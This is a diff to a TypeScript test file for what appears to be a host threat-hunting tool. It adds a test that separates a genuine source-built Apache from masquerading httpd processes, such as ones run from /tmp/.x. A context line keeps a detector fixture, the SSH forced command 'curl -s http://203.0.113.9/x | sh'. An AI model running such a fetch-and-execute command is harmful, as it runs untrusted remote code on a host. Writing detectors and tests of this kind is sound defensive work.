@@ -309,3 +309,42 @@ test("SSH keys: a new key alone or a backup's forced command alone is silent; to
   );
   assert.equal(run(key({ command: "curl -s http://203.0.113.9/x | sh" }))[0]?.severity, "high");
 });
+
+test("a source-built Apache in its own prefix is Apache, not a disguise; an impostor is one finding for all its processes", () => {
+  const exe = "/data/apache-2.4.49/bin/httpd";
+  const real = {
+    elf: true,
+    product: "Apache/2.4.49 (Unix)",
+    httpdRoot: "/data/apache-2.4.49",
+    configExists: true,
+  };
+  const workers = (identity: HuntProcess["exeIdentity"]) =>
+    Array.from({ length: 10 }, (_, i) =>
+      proc({
+        pid: 2000 + i,
+        ppid: i === 0 ? 1 : 2000,
+        comm: "httpd",
+        argv: [exe, "-k", "start"],
+        exe,
+        user: i === 0 ? "root" : "daemon",
+        exeIdentity: identity,
+      }),
+    );
+  const masq = (fs: ReturnType<typeof checkHunt>) => fs.filter((f) => f.check === "process.masquerade");
+  assert.deepEqual(masq(checkHunt(input(workers(real)), ctx)), []);
+  // The same name and place, but the file is not Apache (no version string) or has no configuration.
+  for (const fake of [
+    undefined,
+    { ...real, product: undefined },
+    { ...real, configExists: false },
+    { ...real, elf: false },
+  ]) {
+    const found = masq(checkHunt(input(workers(fake)), ctx));
+    assert.equal(found.length, 1, JSON.stringify(fake));
+    assert.equal(((found[0]?.data?.pids ?? []) as number[]).length, 10);
+    assert.ok(found[0]?.evidence.some((e) => e.label === "10 processes run this same executable"));
+  }
+  // Apache's contents in a temporary directory are still a disguise.
+  const tmp = workers(real).map((p) => ({ ...p, exe: "/tmp/.x/httpd" }));
+  assert.equal(masq(checkHunt(input(tmp), ctx)).length, 1);
+});
